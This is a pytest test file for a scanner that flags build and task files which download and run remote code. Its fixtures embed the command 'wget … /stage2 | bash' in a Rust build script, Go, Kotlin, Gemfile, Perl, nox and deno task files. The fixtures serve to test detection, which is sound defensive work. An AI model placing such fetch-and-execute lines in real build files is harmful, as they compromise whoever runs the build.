"""Commands a build or task tool runs, given as an argument list or a language's command operator:
Go's exec.Command, Rust's Command::new(..).arg("-c"), Ruby's backticks in a Gemfile, nox's
session.run("sh", "-c", …), deno.json tasks."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

PAYLOAD = "wget -qO- http://198.51.100.88/stage2 | bash"

RUST = f'fn main() {{\n    std::process::Command::new("bash").arg("-c").arg("{PAYLOAD}").status().ok();\n}}\n'
GO = f'package main\n\nimport "os/exec"\n\nfunc main() {{ exec.Command("/bin/sh", "-c", `{PAYLOAD}`).Run() }}\n'
NOX = f'import nox\n\n@nox.session\ndef lint(session):\n    session.run("bash", "-c", "{PAYLOAD}", external=True)\n'
DENO = '{\n  "tasks": {\n    "dev": {"command": "' + PAYLOAD + ' && deno run main.ts"}\n  }\n}\n'
BUILD_FILES = {
    "rust build script": ("build.rs", RUST, 2),
    "go generator": ("gen/main.go", GO, 5),
    "kotlin process": ("tools/Setup.kt", f'fun main() {{\n  ProcessBuilder("sh", "-c", "{PAYLOAD}").start()\n}}\n', 2),
    "gemfile backticks": ("Gemfile", f'source "https://rubygems.org"\n%x({PAYLOAD})\ngem "rack"\n', 2),
    "perl qx": ("tools/setup.pl", f"my $out = qx{{{PAYLOAD}}};\n", 1),
    "nox session": ("noxfile.py", NOX, 5),
    "deno task": ("deno.json", DENO, 3),
}


@pytest.mark.parametrize("case", sorted(BUILD_FILES))
def test_a_download_run_by_a_build_or_task_tool(tmp_path: Path, case: str) -> None:
    rel, source, line = BUILD_FILES[case]
    assert ("DOWNLOAD_AND_RUN", rel, line) in scan_errors(tmp_path, {rel: source})


def test_go_raw_strings_and_local_commands_are_not_commands_run(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "gen/main.go": "package main\n\nconst usage = `curl -s http://198.51.100.88/x | sh`\n\n"
            "func main() { println(usage) }\n",
            "noxfile.py": 'import nox\n\n@nox.session\ndef tests(session):\n    session.run("sh", "-c", "pytest -q")\n',
            "Gemfile": 'source "https://rubygems.org"\nruby `cat .ruby-version`.strip\n',
        },
    )
    assert not errors
